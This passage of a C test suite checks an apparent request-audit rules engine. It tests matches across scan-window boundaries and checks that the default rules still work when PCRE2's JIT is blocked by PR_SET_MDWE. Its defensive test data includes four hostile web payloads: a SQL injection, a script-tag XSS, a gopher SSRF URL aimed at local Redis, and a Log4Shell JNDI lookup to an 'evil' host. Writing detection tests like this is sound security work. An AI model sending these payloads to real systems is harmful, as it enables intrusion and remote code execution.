	char			*big;
	size_t			 n = 3 * AUDIT_WINDOW;

	gw_audit_limits_default(&l);
	r = rules_from("rule t\n targets text json-values\n prefilter needle\n"
	    " pattern needle\n");
	if (r == NULL || (big = malloc(n + 16)) == NULL) {
		ok(0, "set-up");
		gw_audit_rules_free(r);
		return;
	}
	memset(big, 'a', n);
	/* across the boundary of the first window */
	memcpy(big + AUDIT_WINDOW - 3, "needle", 6);
	big[n] = '\0';
	is_str(scan(GW_AUDIT_TEXT, r, &l, big), "t@line 1",
	    "a match across a window boundary");
	big[0] = '"';
	big[n - 1] = '"';
	is_str(scan(GW_AUDIT_JSON, r, &l, big), "t@",
	    "in a long JSON string too");
	free(big);
	gw_audit_rules_free(r);
}

#ifndef PR_SET_MDWE
#define PR_SET_MDWE			65
#define PR_MDWE_REFUSE_EXEC_GAIN	1UL
#endif

/*
 * Under systemd's MemoryDenyWriteExecute=yes (which the shipped unit
 * sets), memory cannot be made writable and executable, which PCRE2's JIT
 * needs.  The same is asked of the kernel here with PR_SET_MDWE, in a
 * child: the rules must load, and find what they find otherwise.
 */
static void
test_no_wx_memory(void)
{
	static const char *const attacks[] = {
		"{\"q\":\"1' OR '1'='1\"}",
		"{\"q\":\"<script>alert(1)</script>\"}",
		"{\"u\":\"gopher://127.0.0.1:6379/_x\"}",
		"{\"q\":\"${jndi:ldap://evil/a}\"}",
	};
	const char	*src = getenv("GW_SRCDIR");
	char		 path[4096];
	int		 fds[2], status;
	pid_t		 pid;
	char		 out[4096];
	ssize_t		 n;
	size_t		 len = 0;

	/* valgrind translates code into memory it makes executable */
	if (under_valgrind()) {
		ok(1, "# skip valgrind cannot run without W^X exceptions");
		return;
	}
	(void)snprintf(path, sizeof(path), "%s/audit/default.rules",
	    src != NULL ? src : ".");
	if (pipe(fds) == -1 || (pid = fork()) == -1) {
		ok(0, "fork");
		return;
	}
	if (pid == 0) {
		struct gw_audit_rules	*r;
		struct gw_audit_limits	 l;
		struct gw_err		 err;
		struct got		 g;

		(void)close(fds[0]);
		if (prctl(PR_SET_MDWE, PR_MDWE_REFUSE_EXEC_GAIN, 0, 0, 0) == -1)
			_exit(3);	/* the kernel cannot: skip */
		if (gw_audit_rules_load(path, 0, &r, &err) == -1)
			_exit(2);
		gw_audit_limits_default(&l);
		(void)dprintf(fds[1], "jit=%d", gw_audit_rules_jit(r));
		for (size_t i = 0; i < GW_ARRAY_LEN(attacks); i++) {
			if (scan_piece(GW_AUDIT_JSON, r, &l, 1, 0, attacks[i],
			    strlen(attacks[i]), 0, &g) == -1)
				_exit(2);
			(void)dprintf(fds[1], " %s", g.s);
		}
		gw_audit_rules_free(r);
		_exit(0);
	}
	(void)close(fds[1]);
	while (len < sizeof(out) - 1 &&
	    (n = read(fds[0], out + len, sizeof(out) - 1 - len)) > 0)
		len += (size_t)n;
	out[len] = '\0';
	(void)close(fds[0]);
	(void)waitpid(pid, &status, 0);
	if (WIFEXITED(status) && WEXITSTATUS(status) == 3) {
		ok(1, "# skip PR_SET_MDWE is not available here");
		return;
	}
	ok(WIFEXITED(status) && WEXITSTATUS(status) == 0 &&
	    strncmp(out, "jit=0", 5) == 0, "without writable and executable "
	    "memory the interpreter is used: %.5s", out);
	{
		struct gw_audit_rules	*r;
		struct gw_audit_limits	 l;
		struct gw_err		 err;
		struct got		 g;
		char			 want[4096];
		size_t			 w;

		if (gw_audit_rules_load(path, jit, &r, &err) == -1) {
			ok(0, "default.rules loads");
			return;
		}
		gw_audit_limits_default(&l);
		w = (size_t)snprintf(want, sizeof(want), "jit=0");
		for (size_t i = 0; i < GW_ARRAY_LEN(attacks); i++)
			if (scan_piece(GW_AUDIT_JSON, r, &l, 1, 0, attacks[i],
			    strlen(attacks[i]), 0, &g) == 0)
				w += (size_t)snprintf(want + w, sizeof(want) - w,
				    " %s", g.s);
		is_str(out, want, "and it finds what the JIT finds (JIT used "
		    "here: %d)", gw_audit_rules_jit(r));
		gw_audit_rules_free(r);
	}
}

int
main(void)
{
	if (under_valgrind())
		jit = GW_AUDIT_NO_JIT;
	test_limits();
	test_json();
	test_xml();
	test_rule_files();
	test_decodings();
	test_rules();
	test_prefilter();
	test_default_rules();
	test_windows();
	test_no_wx_memory();
	return done_testing();
}
